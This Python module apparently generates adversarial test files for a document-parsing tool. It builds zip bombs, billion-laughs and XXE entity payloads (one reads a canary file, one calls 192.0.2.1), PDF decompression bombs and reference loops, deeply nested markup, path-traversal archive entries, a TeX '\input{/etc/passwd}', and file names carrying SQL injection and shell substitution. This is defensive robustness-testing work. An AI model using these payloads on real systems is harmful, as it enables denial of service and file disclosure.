"""Files that somebody made to do harm: bombs, entities, loops, endless nesting, and names that are hard to write down.

Each is small on the disk. What it would become, unpacked, read or followed to the end, is not.
"""

import io
import json
import unicodedata
import zipfile
import zlib
from collections.abc import Iterator
from email.message import EmailMessage
from functools import cache

MB = 1 << 20
XML = '<?xml version="1.0" encoding="UTF-8"?>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
ODF = f'xmlns:office="{OASIS}:office:1.0" xmlns:text="{OASIS}:text:1.0"'


def crafted(canary: str) -> Iterator[tuple[str, bytes]]:
    """Names and contents of the files.

    Args:
        canary: path of a file outside the folder, which nothing here may lead to.
    """
    yield from _archives()
    yield from _entities(canary)
    yield from _pdfs()
    yield from _deep_or_long()
    yield from _mails()
    yield from _encodings()
    yield from _escapes(canary)


def names() -> Iterator[str]:
    """Names that a file system takes and that are hard to handle; each file holds an ordinary note."""
    yield "n" * 250 + ".md"
    yield "line\nbreak.md"
    yield "tab\tand\x07bell.md"
    yield "right\u202eto left.md"
    yield unicodedata.normalize("NFD", "café décomposé.md")
    yield " begins and ends with a space .md"
    yield "'; DROP TABLE files; --.md"
    yield "%s%n{0}$HOME`id`.md"
    yield "-rf.md"
    yield "\N{PILE OF POO}\u200d\N{ZERO WIDTH SPACE}.md"


# ---- zip bombs ------------------------------------------------------------------------------------------------------


def _archives() -> Iterator[tuple[str, bytes]]:
    long_text = _repeated(f"<w:p><w:r><w:t>{'bomb ' * 200}</w:t></w:r></w:p>".encode(), 400 * MB)
    document = [f'{XML}<w:document xmlns:w="{W}"><w:body>'.encode(), *long_text, b"</w:body></w:document>"]
    yield "bomb.docx", _zip({"[Content_Types].xml": [b"<Types/>"], "word/document.xml": document})
    yield "zeros.docx", _zip({"word/document.xml": _repeated(bytes(MB), 600 * MB)})
    yield "media.docx", _zip({"word/document.xml": [b"<a/>"], "word/media/image1.png": _repeated(bytes(MB), 600 * MB)})
    rows = _repeated(b'<row><c t="inlineStr"><is><t>bomb</t></is></c></row>' * 1000, 300 * MB)
    yield "bomb.xlsx", _xlsx([b"<worksheet><sheetData>", *rows, b"</sheetData></worksheet>"])
    huge = b'<worksheet><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
    huge += b'<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData></worksheet>'
    yield "dimension.xlsx", _xlsx([huge])
    paragraphs = _repeated(b"<text:p>bomb bomb bomb</text:p>" * 1000, 400 * MB)
    start = f"{XML}<office:document-content {ODF}><office:body><office:text>".encode()
    content = [start, *paragraphs, b"</office:text></office:body></office:document-content>"]
    odt = b"application/vnd.oasis.opendocument.text"
    yield "bomb.odt", _zip({"mimetype": [odt], "content.xml": content})
    cells = b'<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
    cells += b'table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row>'
    sheet = f'{XML}<office:document-content {ODF} xmlns:table="{OASIS}:table:1.0">'
    sheet += "<office:body><office:spreadsheet><table:table>"
    tail = b"</table:table></office:spreadsheet></office:body></office:document-content>"
    ods = b"application/vnd.oasis.opendocument.spreadsheet"
    yield "repeated.ods", _zip({"mimetype": [ods], "content.xml": [sheet.encode(), cells, tail]})
    nested = _zip({"0": _repeated(bytes(MB), 100 * MB)})
    for level in range(4):
        nested = _zip({f"{level}-{number}.zip": [nested] for number in range(10)})
    yield "nested.docx", _zip({"word/document.xml": [b"<a/>"], "word/embeddings/x.zip": [nested]})
    yield "nested.epub", _zip({"mimetype": [b"application/epub+zip"], "x.zip": [nested]})
    yield "entries.docx", _zip({f"word/{number}.xml": [b""] for number in range(25_000)})
    page = _repeated(b"<p>bomb bomb bomb</p>" * 1000, 300 * MB)
    yield "bomb.epub", _epub([b"<html><body>", *page, b"</body></html>"])


def _epub(page: list[bytes]) -> bytes:
    container = f'{XML}<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    container += '<rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    package = f'{XML}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest>'
    package += '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest>'
    package += '<spine><itemref idref="a"/></spine></package>'
    parts = {"mimetype": [b"application/epub+zip"], "META-INF/container.xml": [container.encode()]}
    return _zip({**parts, "c.opf": [package.encode()], "a.xhtml": page})


def _xlsx(sheet: list[bytes]) -> bytes:
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = f'{XML}<workbook xmlns:r="{rel}"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>'
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    rels = f'{XML}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{rel}/worksheet" '
    rels += 'Target="worksheets/sheet1.xml"/></Relationships>'
    return _zip(
        {
            "xl/workbook.xml": [book.encode()],
            "xl/_rels/workbook.xml.rels": [rels.encode()],
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def _zip(members: dict[str, list[bytes]]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, blocks in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                for block in blocks:
                    member.write(block)
    return file.getvalue()


def _repeated(block: bytes, size: int) -> list[bytes]:
    """The same bytes again and again, `size` in all, without holding them."""
    return [block] * (size // len(block))


# ---- XML entities ---------------------------------------------------------------------------------------------------


def _entities(canary: str) -> Iterator[tuple[str, bytes]]:
    laughs = '<!ENTITY a0 "lol lol lol lol ">'
    laughs += "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    outside = f'<!ENTITY x SYSTEM "file://{canary}"> <!ENTITY % y SYSTEM "file://{canary}"> %y;'
    remote = '<!ENTITY x SYSTEM "http://192.0.2.1/x"> <!ENTITY % y SYSTEM "http://192.0.2.1/y"> %y;'
    for name, declared, used in (("laughs", laughs, "&a9;"), ("file", outside, "&x;"), ("web", remote, "&x;")):
        head = f"{XML}<!DOCTYPE r [{declared}]>"
        word = f'{head}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{used}</w:t></w:r></w:p></w:body></w:document>'
        yield f"{name}.docx", _zip({"[Content_Types].xml": [b"<Types/>"], "word/document.xml": [word.encode()]})
        text = f"{head}<office:document-content {ODF}><office:body><office:text><text:p>{used}</text:p>"
        text += "</office:text></office:body></office:document-content>"
        yield f"{name}.odt", _zip({"content.xml": [text.encode()]})
        book = f'{head}<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section><p>{used}</p>'
        yield f"{name}.fb2", f"{book}</section></body></FictionBook>".encode()
        outline = f'{head}<opml version="2.0"><head/><body><outline text="{used}">{used}</outline></body></opml>'
        yield f"{name}.opml", outline.encode()
        yield f"{name}.xhtml", f"{head}<html><body><p>{used} some ordinary words</p></body></html>".encode()
        cell = f'{head}<worksheet><sheetData><row><c t="inlineStr"><is><t>{used}</t></is></c></row></sheetData>'
        yield f"{name}.xlsx", _xlsx([f"{cell}</worksheet>".encode()])
        yield f"{name}.epub", _epub([f"{head}<html><body><p>{used}</p></body></html>".encode()])


# ---- PDF ------------------------------------------------------------------------------------------------------------


def _pdfs() -> Iterator[tuple[str, bytes]]:
    yield "double.pdf", double_flate(1000)
    thrice = zlib.compress(_flated_twice(600), 9)
    yield "triple.pdf", _pdf([_stream(thrice, "/Filter [/FlateDecode /FlateDecode /FlateDecode]")])
    operators = zlib.compress(b"BT /F1 9 Tf (bomb) Tj ET\n" * (8 * MB), 9)
    yield "operators.pdf", _pdf([_stream(operators, "/Filter /FlateDecode")])
    yield (
        "self.pdf",
        _pdf([_stream(b"/X Do", "/Type /XObject /Subtype /Form /Resources << /XObject << /X 4 0 R >> >>")]),
    )
    ring = b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"
    yield "ring.pdf", ring + b" endobj\ntrailer <</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF"
    deep = b"%PDF-1.7\n1 0 obj " + b"[" * 200_000 + b"]" * 200_000 + b" endobj\ntrailer <</Root 1 0 R>>\n%%EOF"
    yield "deep.pdf", deep
    lazy = b"%PDF-1.7\n1 0 obj <</Length 1 0 R>> stream\nx\nendstream endobj\n"
    yield "length.pdf", lazy + b"xref\n0 99999999\ntrailer <</Size 4294967295/Root 1 0 R>>\nstartxref\n9\n%%EOF"


def double_flate(megabytes: int) -> bytes:
    """A PDF of about two kilobytes whose page unpacks, in two steps, to so many megabytes; it ends kreuzberg 4.10.4."""
    return _pdf([_stream(_flated_twice(megabytes), "/Filter [/FlateDecode /FlateDecode]")])


@cache
def _flated_twice(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(bytes(MB)) for _ in range(megabytes)) + packer.flush()
    return zlib.compress(once, 9)


def _pdf(contents: list[bytes]) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R "
    page += b"/Resources << /XObject << /X 4 0 R >> "
    page += b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Arial >> >> >> >>"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, *contents]
    file = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(file))
        file += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(file)
    file += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    file += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(file + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


def _stream(content: bytes, entries: str) -> bytes:
    return f"<< /Length {len(content)} {entries} >>\nstream\n".encode() + content + b"\nendstream"


# ---- depth and length -----------------------------------------------------------------------------------------------


def _deep_or_long() -> Iterator[tuple[str, bytes]]:
    n = 10_000
    yield "deep.html", b"<div>" * n + b"words at the bottom" + b"</div>" * n
    yield "lists.html", b"<ul><li>" * n + b"words" + b"</li></ul>" * n
    yield "quotes.html", b"<blockquote>" * n + b"words" + b"</blockquote>" * n
    yield "tables.html", b"<table><tr><td>" * n + b"words"
    yield "bold.html", b"<b><i>" * n + b"words"
    yield "unclosed.html", b"<" * (2 * MB)
    yield "attributes.html", b"<p " + b"".join(b'a%d="1" ' % number for number in range(200_000)) + b">words</p>"
    yield "entities.html", b"<p>" + b"&amp" * MB + b"</p>"
    yield "quotes.md", b">" * n + b" words at the bottom\n"
    yield "brackets.md", b"[" * 100_000 + b"words" + b"](" * 100_000
    yield "emphasis.md", b"*_`" * 300_000
    yield "links.md", b"[a](b" * 200_000
    yield "lists.md", b"".join(b"  " * depth + b"- item\n" for depth in range(1000))
    yield "tasks.md", b"- [ ] due: " * 40_000
    yield "headings.md", b"# a\n" * 50_000
    yield "line.md", b"word " * (MB // 4)
    yield "oneword.txt", b"x" * (5 * MB)
    yield "front.md", b"---\n" + b"a: &a [*a, *a]\n" + b"x: {" * 3000 + b"\n---\nwords\n"
    anchors = b"".join(b"a%d: &a%d [%s]\n" % (k, k, b",".join([b"*a%d" % (k - 1)] * 9)) for k in range(1, 9))
    yield "laughs.md", b"---\na0: &a0 [lol]\n" + anchors + b"tags: *a8\n---\nwords\n"
    yield "columns.csv", b",".join([b"column"] * 100_000) + b"\n" + b",".join([b"1"] * 100_000)
    yield "rows.csv", b"a,b,c\n" * 100_000
    yield "quote.csv", b'"' * MB
    yield "stars.org", b"*" * 500_000 + b" TODO words\n"
    yield "rules.rst", b"words\n=====\n" * 20_000
    yield "deep.rtf", rb"{\rtf1 " + b"{" * 100_000 + b"words"
    yield "binary.rtf", rb"{\rtf1 {\bin99999999999 x} words}"
    yield "objects.rtf", rb"{\rtf1 {\object{\objdata " + b"d0cf" * 300_000 + b"}} words}"
    yield "deep.tex", rb"\begin{a}" * n + b"words"
    yield "macro.tex", rb"\def\a{\a\a}\a \newcommand{\b}{\b\b}\b words \input{/etc/passwd}"
    yield "deep.opml", b"<opml><body>" + b'<outline text="a">' * n
    yield "deep.fb2", b"<FictionBook><body>" + b"<section>" * n + b"<p>words</p>"
    yield "deep.ipynb", b'{"cells":' + b"[" * 100_000
    output = {"output_type": "stream", "name": "stdout", "text": ["words " * 100] * 2_000}
    cell = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "run()", "outputs": [output]}
    yield "outputs.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()
    image = {"output_type": "display_data", "metadata": {}, "data": {"image/png": "iVBOR" * 2_000_000}}
    cells = [{**cell, "outputs": [image]}, {"cell_type": "markdown", "metadata": {}, "source": "words"}]
    yield "image.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


# ---- mail -----------------------------------------------------------------------------------------------------------


def _mails() -> Iterator[tuple[str, bytes]]:
    head = b"From: a@example.org\nTo: b@example.org\nSubject: deep\nMIME-Version: 1.0\n"
    deep = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (k, k) for k in range(5000))
    yield "deep.eml", head + deep + b"Content-Type: text/plain\n\nwords\n"
    yield "same.eml", head + b'Content-Type: multipart/mixed; boundary="b"\n\n' + b"--b\n" * 40_000
    inner = EmailMessage()
    inner["Subject"] = "innermost"
    inner.set_content("words")
    for _ in range(80):
        outer = EmailMessage()
        outer["Subject"] = "a mail in a mail"
        outer.set_content("see the attachment")
        outer.add_attachment(inner)
        inner = outer
    yield "russian-doll.eml", bytes(inner)
    yield "headers.eml", head + b"".join(b"X-%d: y\n" % k for k in range(100_000)) + b"\nwords\n"
    yield "header.eml", head + b"X-Long: " + b"=?utf-8?q?=41?= " * 100_000 + b"\n\nwords\n"


# ---- text that is none ----------------------------------------------------------------------------------------------


def _encodings() -> Iterator[tuple[str, bytes]]:
    yield "utf8.md", b"# words\n\n" + b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc" * 1000
    yield "overlong.txt", b"words \xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80 words"
    yield "surrogates.txt", b"words \xed\xa0\x80\xed\xbf\xbf words"
    yield "utf16.txt", b"\xff\xfe" + "words ".encode("utf-16-le") + b"\x00\xd8\x00\xd8\x41"
    yield "utf16.csv", b"\xfe\xff" + b"\xd8\x00" * 5000 + b"\0"
    yield "utf32.txt", b"\xff\xfe\0\0" + b"\xff\xff\xff\xff" * 1000
    yield "mark.md", b"\xef\xbb\xbf" * 1000 + b"words"
    yield "control.md", bytes(range(1, 32)) * 1000 + b" words"
    yield "combining.md", ("e" + "\N{COMBINING ACUTE ACCENT}" * 100_000 + " words").encode()
    yield "html.html", b'<meta charset="utf-7">+ADw-script+AD4- words'
    yield "codec.html", b'<meta charset="zip"><p>words</p>'
    yield "hex.html", b'<meta charset="hex"><p>words</p>'


# ---- ways out of the folder -----------------------------------------------------------------------------------------


def _escapes(canary: str) -> Iterator[tuple[str, bytes]]:
    yield "include.tex", rf"words \input{{{canary}}} \include{{{canary}}} \verbatiminput{{{canary}}}".encode()
    yield "include.rst", f"words\n\n.. include:: {canary}\n\n.. raw:: html\n   :file: {canary}\n".encode()
    yield "include.org", f"#+INCLUDE: {canary}\nwords\n".encode()
    yield "frame.html", f'<p>words</p><iframe src="file://{canary}"></iframe><img src="{canary}">'.encode()
    yield "image.md", f"words ![x](file://{canary}) ![[{canary}]] ![y](http://192.0.2.1/y)\n".encode()
    relations = f'<Relationships><Relationship Id="a" TargetMode="External" Target="file://{canary}"/></Relationships>'
    linked = {"word/_rels/document.xml.rels": [relations.encode()], "../../../escaped.xml": [b"<a/>"]}
    yield "linked.docx", _zip({"word/document.xml": [b"<a/>"], **linked})
    escaping = {"mimetype": [b"application/epub+zip"], "META-INF/container.xml": [_container(canary)]}
    yield "escaping.epub", _zip(escaping)


def _container(canary: str) -> bytes:
    return f'<container><rootfiles><rootfile full-path="../../../../..{canary}"/></rootfiles></container>'.encode()
